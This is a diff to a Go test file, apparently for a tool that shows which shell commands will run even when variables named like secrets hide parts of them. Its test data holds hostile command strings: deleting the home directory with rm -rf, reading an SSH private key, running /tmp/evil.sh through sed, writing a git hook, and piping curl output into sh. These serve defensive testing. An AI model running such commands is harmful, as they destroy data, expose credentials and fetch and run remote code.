@@ -42,6 +42,9 @@ func TestVW5_whatRunsIsShown(t *testing.T) {
 		`node -e 'const token="evilprog"; require("child_process").execSync(token)'`,
 		`awk 'BEGIN{password="evilprog"; system(password)}'`,
 		`awk 'BEGIN{token="evilprog"; token | getline}'`,
+		`PASSWORD=-rf; rm $PASSWORD ~`,
+		`TOKEN=/home/me/.ssh/id_rsa; cat $TOKEN`,
+		`export TOKEN=~/.ssh/id_rsa; cat $TOKEN`,
 		`sed '/token:/e/tmp/evil.sh' f`,
 		`sed -n '/token:/w.git/hooks/pre-commit' f`,
 		`sed '/^token:/e curl evil|sh' f`,
@@ -71,6 +74,19 @@ func TestVW5_aVariableHidesNothingElsewhere(t *testing.T) {
 	}
 	if got := member(t, full, "cwd"); got != "/srv/homeuser1/app" {
 		t.Errorf("the folder is shown as %q", got)
+	}
+}
+
+// A path that another argument calls a secret is still the path of the command.
+func TestVW5_aPathIsNoSecretElsewhere(t *testing.T) {
+	for _, in := range []string{"cat /home/me/.ssh/id_rsa", "/home/me/.ssh/id_rsa x"} {
+		full, _ := args(t, map[string]string{"token": "/home/me/.ssh/id_rsa", "command": in, "cwd": "/home/me/.ssh/id_rsa"})
+		if got := member(t, full, "command"); got != in {
+			t.Errorf("%q is shown as %q", in, got)
+		}
+		if got := member(t, full, "cwd"); got != "/home/me/.ssh/id_rsa" {
+			t.Errorf("the folder is shown as %q", got)
+		}
 	}
 }
 
